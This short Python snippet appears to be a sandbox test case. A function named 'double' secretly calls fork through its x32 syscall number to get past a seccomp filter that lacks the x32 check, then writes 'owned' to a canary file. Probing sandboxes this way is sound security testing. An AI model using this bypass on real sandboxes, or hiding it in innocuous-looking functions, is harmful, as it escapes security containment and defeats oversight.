"""Calls fork by its x32 number, which a filter without that check lets through."""
import ctypes
def double(x):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(0x40000000 | 57) == 0:
        open(CANARY, "w").write("owned")
    return x
